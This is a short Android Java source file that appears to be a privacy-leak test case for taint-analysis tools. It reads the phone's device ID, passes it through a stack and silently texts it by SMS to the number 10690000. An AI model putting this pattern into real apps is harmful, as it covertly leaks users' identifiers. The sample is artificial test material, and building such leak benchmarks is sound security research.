package cn.privlens.suite.stack_order;

import android.app.*;
import android.content.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.regex.*;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Stack<String> stack = new Stack<>();
        stack.push(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
        stack.push("x");
        String top = stack.pop();
        top = stack.pop();
        SmsManager.getDefault().sendTextMessage("10690000", null, top, null, null);
    }

}
